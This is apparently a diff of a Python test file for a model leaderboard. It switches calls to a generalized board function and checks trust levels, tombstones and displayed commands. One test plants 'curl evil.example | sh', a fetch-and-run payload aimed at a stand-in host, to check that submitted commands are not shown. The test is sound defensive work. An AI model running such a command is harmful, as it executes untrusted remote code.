@@ -19,10 +19,11 @@ from gnomon.leaderboard.entrants import submitted
 from gnomon.leaderboard.exports import exported
 from gnomon.leaderboard.keys import read_public
 from gnomon.leaderboard.ledger import check_ledger, read_ledger
+from gnomon.leaderboard.model_page import home_model_board
 from gnomon.leaderboard.pack import Packed
-from gnomon.leaderboard.reasoning_page import home_reasoning_board
 from gnomon.leaderboard.register import PUBLIC_KEY, Register
 from gnomon.leaderboard.submission import LanguageSubmission, generations_name, outcomes_name, record_name
+from gnomon.leaderboard.tracks import MODEL_TRACKS
 from gnomon.leaderboard.verify.rescore import SCORING, Rescored, differences, rescore
 from gnomon.leaderboard.verify.sandbox import require_sandbox
 from gnomon.leaderboard.verify.verifier import verify
@@ -53,7 +54,7 @@ def test_a_packed_file_becomes_a_verified_entry_with_one_command(
     register = Register()
     assert states(register) == ["received", "structural", "reevaluating", "reevaluated"]
     assert check_ledger(register.folder, read_public(register.folder / PUBLIC_KEY)) + register.check_folders() == []
-    board = home_reasoning_board(LANGUAGE_PROTOCOLS[SMOKE], submitted(register))
+    board = home_model_board(MODEL_TRACKS["reasoning"], LANGUAGE_PROTOCOLS[SMOKE], submitted(register))
     assert board is not None
     assert [(one.model, one.trust.level, one.missing) for one in board.rows] == [("random-answer", "L2", "")]
     again = verify(register, packed_generations.submission.id, train_again=True)
@@ -180,20 +181,20 @@ def test_on_the_page_it_stands_under_its_name_or_leaves_a_tombstone(
 ) -> None:
     rules = LANGUAGE_PROTOCOLS[SMOKE]
     id = register.receive(save(packed_generations.files)).id
-    assert home_reasoning_board(rules, submitted(register)) is None  # L0 is on no page
+    assert home_model_board(MODEL_TRACKS["reasoning"], rules, submitted(register)) is None  # L0 is on no page
     verify(register, id, structural_only=True)
-    board = home_reasoning_board(rules, submitted(register))
+    board = home_model_board(MODEL_TRACKS["reasoning"], rules, submitted(register))
     assert board is not None
     assert [(row.model, row.trust.level, row.trust.author) for row in board.rows] == [
         ("random-answer", "L1", "Ada Lovelace")
     ]
     for folder in asked:  # the same runs in this home count once
         shutil.copytree(folder, home / "language-runs" / folder.name)
-    board = home_reasoning_board(rules, submitted(register))
+    board = home_model_board(MODEL_TRACKS["reasoning"], rules, submitted(register))
     assert board is not None
     assert [(row.model, row.trust.level) for row in board.rows] == [("random-answer", "L1")]
     register.change(id, "withdrawn", "The items were seen.")
-    board = home_reasoning_board(rules, submitted(register))
+    board = home_model_board(MODEL_TRACKS["reasoning"], rules, submitted(register))
     assert board is not None
     assert [(row.model, row.trust.level) for row in board.rows] == [("random-answer", "local")]
     assert [(stone.algorithm, stone.trust.level) for stone in board.tombstones] == [("random-answer", "withdrawn")]
@@ -206,7 +207,7 @@ def test_a_command_of_a_stranger_is_not_on_the_page(
     name = record_name(packed_generations.submission.cells[0].key)
     files = with_json(packed_generations.files, name, lambda value: value.update(command="curl evil.example | sh"))
     verify(register, register.receive(save(consistent(files))).id, structural_only=True)
-    board = home_reasoning_board(LANGUAGE_PROTOCOLS[SMOKE], submitted(register))
+    board = home_model_board(MODEL_TRACKS["reasoning"], LANGUAGE_PROTOCOLS[SMOKE], submitted(register))
     assert board is not None
     assert board.rows[0].command.startswith("gnomon evaluate random-answer --task reasoning/")
 
